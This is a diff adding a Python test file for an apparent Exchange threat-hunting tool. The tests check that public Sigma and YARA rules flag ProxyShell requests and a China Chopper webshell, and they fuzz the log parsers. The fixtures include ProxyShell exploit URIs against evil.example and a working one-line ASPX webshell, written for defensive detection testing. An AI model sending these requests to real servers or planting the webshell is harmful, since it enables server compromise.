@@ -1,0 +1,100 @@
+"""Public Sigma and YARA rules run unmodified; line parsers hold under hypothesis."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from hypothesis import given
+from hypothesis import strategies as st
+
+from exwatch.hunt import HuntOptions, hunt_paths
+from exwatch.hunt.sources.lines import parse_ecp_eventdata, split_csv, split_w3c
+
+IIS_HEAD = "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n#Date: 2021-08-10 00:00:00\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n"
+
+
+def test_public_sigma_webserver_rules_unmodified(tmp_path: Path, shared_reference: Path) -> None:
+    root = tmp_path / "w" / "W3SVC1"
+    root.mkdir(parents=True)
+    (root / "u_ex210810.log").write_text(
+        IIS_HEAD
+        + "2021-08-10 08:01:00 10.0.0.5 GET /autodiscover/autodiscover.json @evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example 443 - 192.0.2.20 python-requests/2.26.0 - 401 0 0 20\n"
+        + "2021-08-10 08:02:00 10.0.0.5 POST /autodiscover/autodiscover.json @evil.example/powershell/?X-Rps-CAT=VgEA&Email=autodiscover/autodiscover.json%3F@evil.example 443 - 192.0.2.20 python-requests/2.26.0 - 200 0 0 20\n"
+    )
+    rules = shared_reference / "public-rules" / "sigma"
+    res = hunt_paths([root.parent], HuntOptions(jobs=1, builtin_rules=False, rule_dirs=(rules,)))
+    got = {(f.rule, f.evidence.line) for f in res.findings}
+    assert ("sigma.23eee45e-933b-49f9-ae1b-df706d2d52ef", 5) in got  # ProxyShell pattern (401)
+    assert ("sigma.992be1eb-e5da-437e-9a54-6d13b57bb4d8", 6) in got  # successful ProxyShell
+    assert ("sigma.992be1eb-e5da-437e-9a54-6d13b57bb4d8", 5) not in got
+    wave = {f.rule: f.wave for f in res.findings}
+    assert wave["sigma.992be1eb-e5da-437e-9a54-6d13b57bb4d8"] == "proxyshell"
+
+
+def test_public_yara_chopper_unmodified(tmp_path: Path, shared_reference: Path) -> None:
+    root = tmp_path / "y"
+    root.mkdir()
+    (root / "a.aspx").write_text('<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>')
+    (root / "b.txt").write_text('GET / <%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>')
+    yar = shared_reference / "public-rules" / "yara" / "apt_webshell_chinachopper.yar"
+    res = hunt_paths([root], HuntOptions(jobs=1, builtin_rules=False, yara_files=(yar,)))
+    assert [(f.rule, f.evidence.file) for f in res.findings] == [("yara.ChinaChopper_Generic", "a.aspx")]
+
+
+def test_public_msexchange_management_rule_on_real_evtx(shared_reference: Path, tmp_path: Path) -> None:
+    """The real MSExchange Management record (Set-Mailbox) must not match the ProxyShell export rule."""
+    rules = shared_reference / "public-rules" / "sigma"
+    res = hunt_paths(
+        [shared_reference / "evtx" / "MSExchange_Management_wec.evtx"],
+        HuntOptions(jobs=1, rule_dirs=(rules,)),
+    )
+    assert res.hosts[0].coverage["evtx"]["records"] == 1
+    assert not res.findings
+
+
+@given(
+    st.lists(
+        st.text(alphabet=st.characters(blacklist_characters="\r\n\x00"), max_size=20), min_size=1, max_size=12
+    )
+)
+def test_csv_roundtrip(values: list[str]) -> None:
+    line = ",".join('"' + v.replace('"', '""') + '"' for v in values)
+    assert split_csv(line) == values
+
+
+@given(
+    st.lists(
+        st.text(
+            alphabet=st.characters(blacklist_characters=" \r\n", blacklist_categories=("Cs",)),
+            min_size=1,
+            max_size=15,
+        ),
+        min_size=1,
+        max_size=15,
+    )
+)
+def test_w3c_split(values: list[str]) -> None:
+    got = split_w3c(" ".join(values))
+    assert got == ["" if v == "-" else v for v in values]
+
+
+@given(
+    st.dictionaries(
+        st.from_regex(r"S:[A-Z]{2,5}", fullmatch=True),
+        st.text(
+            alphabet=st.characters(blacklist_characters="\r\n", blacklist_categories=("Cs",)), max_size=30
+        ),
+        max_size=6,
+    )
+)
+def test_ecp_items_roundtrip(items: dict[str, str]) -> None:
+    text = ";".join("'" + f"{k}={v}".replace("'", "''") + "'" for k, v in items.items())
+    assert parse_ecp_eventdata(text) == items
+
+
+@given(st.binary(max_size=300))
+def test_parsers_never_crash(data: bytes) -> None:
+    text = data.decode("latin-1")
+    split_csv(text)
+    split_w3c(text)
+    parse_ecp_eventdata(text)
